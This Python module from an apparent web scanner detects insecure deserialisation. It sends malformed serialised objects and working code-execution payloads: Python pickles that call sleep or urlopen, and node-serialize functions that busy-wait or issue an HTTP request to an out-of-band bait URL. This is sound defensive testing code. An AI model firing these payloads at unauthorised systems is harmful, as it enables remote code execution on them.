"""Objects that are built from what the request says: PHP, Python pickles, Node, Java and .NET."""

import base64
import binascii
import json
import re
from collections.abc import Callable, Iterator

from scanners.web.message import Request
from scanners.web.points import Part, Point, Where
from scanners.web.probing.check import PointCheck
from scanners.web.probing.complaint import Complaint, complains
from scanners.web.probing.delays import Line, filled, obeys
from scanners.web.probing.page import Page
from scanners.web.probing.taken import BAIT, Taken, takes
from scanners.web.probing.trial import Bait, Probing, Trial
from scanners.web.probing.weakness import Verdict, WebClass
from secops.model.finding import Severity
from secops.model.text import Text

_COMPLAINTS = re.compile(
    r"unserialize\(\): Error at offset|__PHP_Incomplete_Class|UnpicklingError|pickle data was truncated"
    r"|could not find MARK|invalid load key|unpickling stack underflow|java\.io\.(StreamCorrupted|InvalidClass|EOF)Exception"
    r"|invalid stream header|SerializationException|BinaryFormatter|incompatible marshal file format"
    r"|com\.alibaba\.fastjson\.JSONException: autoType|yaml\.constructor\.ConstructorError",
    re.IGNORECASE,
)
_JAVASCRIPT = "_$$ND_FUNC$$_function(){{body}}()"


class Deserialization(PointCheck):
    """Broken objects that are complained of, and objects that wait or ask for a bait while they are built."""

    name = "deserialization"
    title = Text("不安全的反序列化", "insecure deserialisation")
    weakness = WebClass.DESERIALIZATION
    severity = Severity.CRITICAL
    cwe = 502
    clauses = ("8.1.4.4 d",)
    mend = Text(
        "不要反序列化来自客户端的对象;改用 JSON 等纯数据格式,或先校验签名。",
        "Build no objects from what a client sends; use plain data such as JSON, or check a signature first.",
    )

    def fits(self, point: Point) -> bool:
        """Base64, serialised text, or a string of JSON."""
        return point.part is Part.VALUE and (_encoded(point.value) or point.where is Where.JSON or ":" in point.value)

    def probe(self, point: Point, page: Page, trial: Trial) -> Probing:
        """Error, time, listener."""
        write = _in_base64 if _encoded(point.value) else str
        broken = [write(text) for text in (f'O:9:"{trial.mark()}":0:{{}}', "\x80\x04\x95zz", "O:1:x")]
        if write is _in_base64:
            broken.append("rO0ABXNyAAFY")
        complaint = yield from complains(trial, point, _COMPLAINTS, broken)
        if complaint:
            return _complained(complaint)
        for form in _objects("{s}", "{ms}"):
            line = yield from obeys(trial, _delayed(point, form, write), page.seconds)
            if line:
                return _waited(line, filled(form, 2))
        for form in _asking():
            taken = yield from takes(trial, _baited(point, form, write))
            if taken:
                return _took(taken, form)
        return None


def _encoded(value: str) -> bool:
    """Base64 of four characters and more."""
    if len(value) < 4 or not re.fullmatch(r"[A-Za-z0-9+/_-]+={0,2}", value):
        return False
    try:
        base64.b64decode(value + "=" * (-len(value) % 4), altchars=b"-_" if set(value) & set("-_") else None)
    except binascii.Error:
        return False
    return value.endswith("=") or len(value) >= 12


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode("latin-1")).decode()


def _objects(seconds: str, milliseconds: str) -> Iterator[str]:
    """Objects that wait while they are built."""
    yield f"ctime\nsleep\n(F{seconds}\ntR."
    busy = f"var t=Date.now()+{milliseconds};while(Date.now()<t);"
    yield from _functions(busy)


def _functions(body: str) -> Iterator[str]:
    code = _JAVASCRIPT.replace("{body}", body)
    yield json.dumps({"x": code})
    yield code


def _asking() -> Iterator[str]:
    """Objects that ask for the bait while they are built."""
    yield f"curllib.request\nurlopen\n(S'{BAIT}'\ntR."
    yield from _functions(f"require('http').get('{BAIT}')")


def _delayed(point: Point, form: str, write: Callable[[str], str]) -> Callable[[float], Request]:
    return lambda seconds: point.inject(write(filled(form, seconds)))


def _baited(point: Point, form: str, write: Callable[[str], str]) -> Callable[[Bait], Request]:
    return lambda bait: point.inject(write(form.replace(BAIT, bait.url)))


def _complained(complaint: Complaint) -> Verdict:
    because = Text(
        f"残缺的序列化数据使反序列化报错“{complaint.words}”,换成字母则没有",
        f"a broken object is complained of (“{complaint.words}”), letters are not",
    )
    return Verdict(because, {"payload": complaint.payload, "response": complaint.excerpt}, rule="error")


def _waited(line: Line, payload: str) -> Verdict:
    because = line.because(7)
    sentence = Text(f"反序列化时执行了等待代码:{because.zh}", f"building the object ran code that waits: {because.en}")
    return Verdict(sentence, {"payload": payload}, rule="time")


def _took(taken: Taken, form: str) -> Verdict:
    return Verdict(taken.because, {"payload": form, "hit": taken.shown}, rule="out-of-band")


DESERIALIZATION = Deserialization()
